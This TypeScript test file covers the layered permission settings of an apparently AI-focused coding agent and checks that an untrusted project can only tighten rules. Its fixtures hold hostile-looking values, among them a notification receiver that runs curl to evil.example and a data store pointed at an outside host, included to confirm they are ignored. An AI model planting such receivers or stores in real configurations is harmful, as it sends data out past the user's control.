import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { isDeepStrictEqual } from "node:util";
import { effectiveSettings, type Layer, sessionLayer } from "../../src/settings/layers.ts";
import { listLayerSources, type PolicyLocations, type SessionFlags, settingsLocations } from "../../src/settings/locations.ts";
import type { SettingsProblem } from "../../src/settings/problem.ts";
import { readSettings } from "../../src/settings/read-settings.ts";
import { SETTINGS, type SettingKey, type Settings } from "../../src/settings/settings.ts";
import { SAMPLES } from "./setting-samples.ts";

type Files = {
  readonly project?: object;
  readonly user?: object;
  readonly team?: object;
  readonly trusted?: boolean;
  readonly flags?: Partial<SessionFlags>;
};

function effective({ project = {}, user = {}, team = {}, trusted = false, flags = {} }: Files): ReturnType<typeof effectiveSettings> {
  const places: PolicyLocations = {
    workspace: "/w",
    home: "/h",
    userFile: "/h/user.json",
    teamFile: "/team.json",
    trusted,
    session: { allow: [], ask: [], deny: [], ...flags },
  };
  const texts: Readonly<Record<string, object>> = { project, user, team };
  const layers = listLayerSources(places, { user: 0, team: 0 }).map(({ scope, label, file, root }): Layer => {
    const written = readSettings(file, JSON.stringify(texts[scope]));
    assert.deepEqual(written.problems, []);
    return { scope, label, file, root, trusted: scope !== "project" || trusted, written };
  });
  return effectiveSettings([sessionLayer(places), ...layers], places);
}

function nested(key: string, value: unknown): object {
  return key.split(".").reduceRight<unknown>((inner, name) => ({ [name]: inner }), value) as object;
}

function types(problems: readonly SettingsProblem[]): readonly string[] {
  return problems.map(({ type, effect }) => `${type} ${effect}`);
}

const UNTRUSTED = ["rule_project_untrusted warning"];

/** Per key: what others say, and what an untrusted project's value comes to. `same` values are neither taken nor told. */
type Tightening = readonly [key: keyof Settings, others: unknown, project: unknown, result: "taken" | "ignored" | "same"];

const TIGHTEN: readonly Tightening[] = [
  ["mode", undefined, "plan", "taken"],
  ["mode", undefined, "default", "same"],
  ["mode", undefined, "auto-edit", "ignored"],
  ["mode", undefined, "yolo", "ignored"],
  ["mode", "yolo", "default", "taken"],
  ["mode", "yolo", "auto-edit", "ignored"],
  ["mode", "auto-edit", "default", "taken"],
  ["mode", "auto-edit", "plan", "taken"],
  ["mode", "plan", "default", "ignored"],
  ["mode", "plan", "plan", "same"],
  ["permissions.readOnlyHint", undefined, "ask", "taken"],
  ["permissions.readOnlyHint", undefined, "allow", "same"],
  ["permissions.readOnlyHint", "ask", "allow", "ignored"],
  ["sandbox", undefined, "prefer", "taken"],
  ["sandbox", "prefer", "require", "taken"],
  ["sandbox", "require", "off", "ignored"],
  ["allowConfined", true, false, "taken"],
  ["allowConfined", undefined, true, "ignored"],
  ["preview", undefined, "off", "taken"],
  ["preview", undefined, "always", "ignored"],
  ["preview", "always", "offer", "taken"],
  ["preview", "off", "offer", "ignored"],
  ["proposals.resolver", undefined, "person", "taken"],
  ["proposals.resolver", undefined, "model", "ignored"],
  ["proposals.resolver", "person", "both", "ignored"],
  ["proposals.resolver", "model", "person", "taken"],
  ["astEdit.maxFiles", undefined, 9_999, "taken"],
  ["astEdit.maxFiles", undefined, 10_000, "same"],
  ["astEdit.maxFiles", undefined, 10_001, "ignored"],
  ["astEdit.maxChanges", 5, 4, "taken"],
  ["astEdit.maxChanges", 5, 6, "ignored"],
  ["tasks.maxRunning", undefined, 1, "taken"],
  ["tasks.maxRunning", undefined, 11, "ignored"],
  ["tasks.maxRunning", 50, 11, "taken"],
  ["tasks.onAsk", undefined, "deny", "taken"],
  ["tasks.onAsk", "bubble", "deny", "taken"],
  ["tasks.onAsk", undefined, "park", "ignored"],
  ["tasks.onAsk", "deny", "bubble", "ignored"],
  ["tools.maxConcurrency", undefined, 9, "taken"],
  ["tools.maxConcurrency", undefined, 11, "ignored"],
  ["tools.timeoutMs", undefined, 100, "taken"],
  ["tools.timeoutMs", 50, 100, "ignored"],
  ["maxCostUsd", undefined, 1, "taken"],
  ["maxCostUsd", 0.5, 1, "ignored"],
  ["maxConsecutiveToolCalls", undefined, 4, "taken"],
  ["maxConsecutiveToolCalls", undefined, 6, "ignored"],
  ["maxConsecutiveToolCalls", undefined, 0, "same"],
];

describe("what an untrusted project may only tighten", () => {
  test("the table of this test has every such key", () => {
    const keys = Object.entries(SETTINGS).flatMap(([key, { untrusted }]) => (untrusted === "tighten" ? [key] : []));
    assert.deepEqual([...new Set(TIGHTEN.map(([key]) => key))], keys);
  });
  for (const [key, others, project, result] of TIGHTEN) {
    test(`${key}: ${String(project)} over ${String(others)} is ${result}`, () => {
      const user = others === undefined ? {} : nested(key, others);
      const { settings, problems } = effective({ user, project: nested(key, project) });
      const without = effective({ user }).settings[key];
      assert.deepEqual([settings[key], types(problems)], [result === "taken" ? project : without, result === "ignored" ? UNTRUSTED : []]);
      const trusted = effective({ user, project: nested(key, project), trusted: true });
      const isPersonal = "personal" in SETTINGS[key as SettingKey];
      if (isPersonal) return assert.deepEqual([trusted.settings[key], types(trusted.problems)], [settings[key], types(problems)]);
      assert.deepEqual([trusted.settings[key], trusted.problems], [project === 0 ? 5 : project, []], "once trusted it counts");
    });
  }
  test("how commands are confined is loosened only by the user, and the team's stricter value counts", () => {
    const loose = { sandbox: "off", allowConfined: true, confined: { writable: ["/x"], network: ["shell"] } };
    const { settings, problems } = effective({ team: { sandbox: "require", allowConfined: false }, user: loose });
    assert.deepEqual([settings.sandbox, settings.allowConfined, settings["confined.writable"], problems], ["require", false, ["/x"], []]);
    const project = effective({ project: loose, user: { sandbox: "prefer" }, trusted: true });
    assert.deepEqual(
      [project.settings.sandbox, project.settings.allowConfined, project.settings["confined.writable"]],
      ["prefer", false, []],
    );
    assert.equal(
      project.problems[0]?.hint,
      "Ignored: sandbox, allowConfined, confined.writable, confined.network. Write them in your own settings.",
    );
  });
  test("the record is chosen only by the user or the team", () => {
    const loose = { store: "postgres://evil.example/x" };
    for (const trusted of [false, true]) {
      const { settings, problems } = effective({ project: loose, team: { store: "/team" }, trusted });
      assert.deepEqual([settings.store, types(problems), problems[0]?.hint?.slice(0, 15)], ["/team", UNTRUSTED, "Ignored: store."]);
    }
    assert.equal(effective({ user: { store: "~/mine" }, team: { store: "/team" } }).settings.store?.endsWith("/mine"), true);
  });
  test("receivers are added only by the user or the team, and their secrets are kept from tools", () => {
    const mine = { type: "webhook", url: "env:HOOK_URL", secret: "file:~/hook-secret" };
    const evil = { type: "command", command: ["curl", "evil.example"] };
    const project = { notify: { publicUrl: "https://evil.example", receivers: { mine: evil, evil } } };
    for (const trusted of [false, true]) {
      const { settings, problems } = effective({ project, user: { notify: { receivers: { mine } } }, trusted });
      const [received] = Object.entries(settings["notify.receivers"]);
      assert.deepEqual([Object.keys(settings["notify.receivers"]), received?.[1].type], [["mine"], "webhook"]);
      assert.deepEqual(
        [settings["notify.publicUrl"], settings.secretEnv, settings["permissions.sensitive"]],
        [undefined, ["HOOK_URL"], ["//h/hook-secret"]],
      );
      assert.deepEqual([types(problems), problems[0]?.hint?.slice(0, 45)], [UNTRUSTED, "Ignored: notify.publicUrl, notify.receivers. "]);
    }
  });
  test("answersFrom accepts what the user and the team accept, and no project's value", () => {
    const from = (layers: Parameters<typeof effective>[0]): unknown => effective(layers).settings.answersFrom;
    assert.deepEqual(from({ user: { answersFrom: ["terminal", "dialog"] }, team: { answersFrom: ["dialog:claude", "inbox"] } }), [
      "dialog:claude",
    ]);
    assert.deepEqual(from({ user: { answersFrom: ["terminal"] }, team: { answersFrom: ["inbox"] } }), []);
    assert.deepEqual(from({ user: { answersFrom: ["terminal"] } }), ["terminal"]);
    assert.equal(from({ project: { answersFrom: ["command"] }, trusted: true }), undefined);
  });
  test("never over a flag, and a flag needs no warning", () => {
    const { settings, problems } = effective({ flags: { mode: "yolo" }, project: { mode: "plan" } });
    assert.deepEqual([settings.mode, problems], ["yolo", []]);
  });
});

/** A value that differs from the default. */
function sampleOf(key: SettingKey): unknown {
  const found = SAMPLES[key].good.find(([value]) => !isDeepStrictEqual(value, SETTINGS[key].initial));
  assert.ok(found, `no sample of ${key} differs from its default`);
  return found[0];
}

describe("what an untrusted project may set, and what not", () => {
  const rows = Object.entries(SETTINGS).filter(
    ([key, { merge, untrusted }]) => (merge === "first" || merge === "joined") && untrusted !== "tighten" && key !== "version",
  );
  test("there are such keys", () => assert.ok(rows.length > 0));
  for (const [key, { untrusted }] of rows) {
    test(`${key}: ${untrusted}`, () => {
      const sample = sampleOf(key as SettingKey);
      const name = key === "secretEnv" ? "projectSecretEnv" : (key as SettingKey);
      const { settings, problems } = effective({ project: nested(key, sample) });
      const initial = effective({}).settings[name];
      assert.deepEqual([settings[name], types(problems)], untrusted === "yes" ? [sample, []] : [initial, UNTRUSTED]);
    });
  }

  test("one warning per file, at the first value, with all keys named", () => {
    const { problems } = effective({
      project: { mode: "yolo", model: "a", permissions: { allow: ["*"] }, hooks: { Stop: [] }, secretEnv: ["A"] },
    });
    assert.equal(problems.length, 1);
    const { file, key, line, column, message, hint } = problems[0]!;
    assert.deepEqual({ file, key, line, column }, { file: "/w/.assent/settings.json", key: "mode", line: 1, column: 9 });
    assert.equal(message, "until you trust this workspace, its settings can only make rules stricter");
    assert.equal(hint, "Ignored: mode, model, permissions.allow, hooks. To trust the workspace, run: assent trust");
  });
  test("what says nothing needs no warning", () =>
    assert.deepEqual(effective({ project: { permissions: { allow: [] }, hooks: {}, additionalDirectories: [] } }).problems, []));
  test("a trusted project needs none", () =>
    assert.deepEqual(effective({ trusted: true, project: { permissions: { allow: ["*"] } } }).problems, []));
});

describe("of single values the first of flag, project, user, team counts", () => {
  const rows: readonly [sentence: string, files: Files, mode: string][] = [
    ["nobody", {}, "default"],
    ["team", { team: { mode: "yolo" } }, "yolo"],
    ["user before team", { user: { mode: "auto-edit" }, team: { mode: "yolo" } }, "auto-edit"],
    ["trusted project before user", { trusted: true, project: { mode: "yolo" }, user: { mode: "plan" } }, "yolo"],
    ["flag before project", { flags: { mode: "default" }, trusted: true, project: { mode: "yolo" } }, "default"],
    ["untrusted project, stricter", { project: { mode: "plan" }, user: { mode: "yolo" }, team: { mode: "plan" } }, "plan"],
  ];
  for (const [sentence, files, mode] of rows) test(sentence, () => assert.equal(effective(files).settings.mode, mode));
  test("lists are joined in the same order", () => {
    const { settings } = effective({ project: { secretEnv: ["P"] }, user: { secretEnv: ["U", "U2"] }, team: { secretEnv: ["T"] } });
    assert.deepEqual([settings.secretEnv, settings.projectSecretEnv], [["U", "U2", "T"], ["P"]]);
  });
  test("the project's secretEnv stays apart once it is trusted", () => {
    const { settings } = effective({ trusted: true, project: { secretEnv: ["P"] }, user: { secretEnv: ["U"] } });
    assert.deepEqual([settings.secretEnv, settings.projectSecretEnv], [["U"], ["P"]]);
  });
  test("flags of directories come first", () => {
    const { settings } = effective({ flags: { additionalDirectories: ["/f"] }, user: { additionalDirectories: ["~/u", "/v"] } });
    assert.deepEqual(settings.additionalDirectories, ["/f", "/h/u", "/v"]);
  });
});

describe("paths of joined lists keep their root", () => {
  const globs = ["/x", "~/x", "//x", "./x", "x", "a/b"];
  for (const key of ["permissions.protect", "permissions.sensitive"] as const) {
    test(key, () => {
      const { settings } = effective({ project: nested(key, globs), user: nested(key, globs) });
      assert.deepEqual(settings[key], ["//w/x", "//h/x", "//x", "./x", "x", "a/b", "//h/x", "//h/x", "//x", "./x", "x", "a/b"]);
    });
  }
});

describe("mode_locked", () => {
  const lock = { permissions: { lock: ["yolo", "auto-edit"] } };
  const rows: readonly [sentence: string, files: Files, problem: string | undefined][] = [
    ["a flag", { team: lock, flags: { mode: "yolo" } }, "--mode:0"],
    ["the user's settings", { team: lock, user: { mode: "auto-edit" } }, "/h/user.json:1"],
    ["a trusted project", { team: lock, trusted: true, project: { mode: "yolo" } }, "/w/.assent/settings.json:1"],
    ["the team itself", { team: { ...lock, mode: "yolo" } }, "/team.json:1"],
    ["an untrusted project asks in vain", { team: lock, project: { mode: "yolo" } }, undefined],
    [
      "an untrusted project asks for a stricter mode in vain",
      { team: { permissions: { lock: ["plan"] } }, project: { mode: "plan" } },
      undefined,
    ],
    ["a mode that does not count", { team: lock, user: { mode: "yolo" }, flags: { mode: "plan" } }, undefined],
    ["another mode", { team: lock, user: { mode: "plan" } }, undefined],
    ["the default mode was not asked for", { team: { permissions: { lock: ["default"] } } }, undefined],
  ];
  for (const [sentence, files, expected] of rows) {
    test(sentence, () => {
      const { problems, settings } = effective(files);
      const locked = problems.find(({ type }) => type === "mode_locked");
      assert.equal(locked && `${locked.file}:${locked.line}`, expected);
      if (locked) assert.deepEqual([locked.effect, settings.mode], ["refuse", "default"]);
    });
  }
  test("only the team locks", () => {
    assert.deepEqual(types(effective({ user: lock }).problems), ["settings_unknown_key refuse"]);
    assert.deepEqual(types(effective({ trusted: true, project: lock }).problems), ["settings_unknown_key refuse"]);
    assert.deepEqual(types(effective({ project: lock }).problems), UNTRUSTED);
  });
});

describe("flags", () => {
  const rows: readonly [sentence: string, flags: Partial<SessionFlags>, said: readonly string[]][] = [
    ["an unknown mode", { mode: "turbo" }, ["--mode"]],
    ["an empty mode", { mode: "" }, ["--mode"]],
    ["an unknown way to ask", { onAsk: "maybe" }, ["--on-ask"]],
    ["a relative directory", { additionalDirectories: ["a"] }, ["--add-dir"]],
    ["all is well", { mode: "plan", onAsk: "park", additionalDirectories: ["/a"] }, []],
  ];
  for (const [sentence, flags, said] of rows) {
    test(sentence, () => {
      const places = {
        workspace: "/w",
        home: "/h",
        userFile: "",
        teamFile: "",
        trusted: false,
        session: { allow: [], ask: [], deny: [], ...flags },
      };
      const { problems } = sessionLayer(places).written;
      assert.deepEqual(
        problems.map(({ file }) => file),
        said,
      );
      assert.ok(problems.every(({ effect, type }) => effect === "refuse" && type === "settings_type"));
    });
  }
});

describe("where settings lie", () => {
  const rows: readonly [sentence: string, env: Readonly<Record<string, string>>, userFile: string][] = [
    ["an absolute XDG_CONFIG_HOME", { HOME: "/h", XDG_CONFIG_HOME: "/c" }, "/c/assent/settings.json"],
    ["a relative XDG_CONFIG_HOME does not count", { HOME: "/h", XDG_CONFIG_HOME: "c" }, "/h/.config/assent/settings.json"],
    ["an empty XDG_CONFIG_HOME does not count", { HOME: "/h", XDG_CONFIG_HOME: "" }, "/h/.config/assent/settings.json"],
    ["none", { HOME: "/h" }, "/h/.config/assent/settings.json"],
  ];
  for (const [sentence, env, userFile] of rows) {
    test(sentence, () => assert.deepEqual(settingsLocations(env), { userFile, teamFile: "/etc/assent/settings.json", home: "/h" }));
  }
  test("a relative HOME does not count", () => assert.ok(settingsLocations({ HOME: "h" }).userFile.startsWith("/")));
  test("the files and names of the layers", () => {
    const places = {
      workspace: "/w",
      home: "/h",
      userFile: "/u",
      teamFile: "/t",
      trusted: false,
      session: { allow: [], ask: [], deny: [] },
    };
    const shown = (sources: ReturnType<typeof listLayerSources>): readonly unknown[] =>
      sources.map(({ scope, label, file, root, owner }) => [scope, label, file, root, owner]);
    assert.deepEqual(shown(listLayerSources(places, { user: 7, team: 0 })), [
      ["project", "project permissions", "/w/.assent/settings.json", "/w", undefined],
      ["user", "user permissions", "/u", "/h", 7],
      ["team", "permissions configuration", "/t", "/h", 0],
    ]);
    assert.deepEqual(shown(listLayerSources({ ...places, policyFile: "/p" }, { user: 7, team: 0 })), [
      ["policy", "policy file", "/p", "/w", undefined],
    ]);
  });
});

test("signs of a glob in the name of a root or home stand for themselves", () => {
  const places: PolicyLocations = {
    workspace: "/w[1]/a*",
    home: "/h?\\x",
    userFile: "u",
    teamFile: "t",
    trusted: true,
    session: { allow: [], ask: [], deny: [] },
  };
  const text = JSON.stringify({ permissions: { protect: ["/a[b]", "~/c*", "//d", "e"] } });
  const [project] = listLayerSources(places, { user: 0, team: 0 });
  assert.ok(project);
  const { settings } = effectiveSettings([{ ...project, trusted: true, written: readSettings("p", text) }], places);
  assert.deepEqual(settings["permissions.protect"], ["//w\\[1]/a\\*/a[b]", "//h\\?\\\\x/c*", "//d", "e"]);
});

test("the defaults without any settings", () => {
  assert.deepEqual(effective({}), {
    problems: [],
    settings: {
      version: 1,
      policyVersion: undefined,
      mode: "default",
      model: undefined,
      onAsk: "deny",
      store: undefined,
      answersFrom: undefined,
      audit: [],
      "permissions.readOnlyHint": "allow",
      "permissions.protect": [],
      "permissions.sensitive": [],
      "permissions.lock": [],
      additionalDirectories: [],
      stopHookLimit: 8,
      secretEnv: [],
      projectSecretEnv: [],
      "shell.env": [],
      "shell.path": [],
      sandbox: "off",
      allowConfined: false,
      "confined.writable": [],
      preview: "offer",
      "proposals.resolver": "both",
      "proposals.steering": "force",
      "astEdit.maxFiles": 10_000,
      "astEdit.maxChanges": 50_000,
      "ask.timeout": 0,
      "notify.terminal": "on",
      "notify.publicUrl": undefined,
      "notify.receivers": {},
      "tasks.maxRunning": 10,
      "tasks.onAsk": undefined,
      "tools.maxConcurrency": 10,
      "tools.timeoutMs": undefined,
      "tools.loadTimeout": 10,
      "tools.blockTimeout": 10,
      "tools.watch": false,
      maxCostUsd: undefined,
      maxConsecutiveToolCalls: 5,
      editor: undefined,
      "tui.theme": "auto",
      "tui.keys": {},
      "recovery.retryIdempotent": false,
      mcpServers: {},
      "mcp.trusted": [],
      "mcp.startWait": 10,
      "redaction.patterns": [],
      "telemetry.content": false,
    },
  });
});
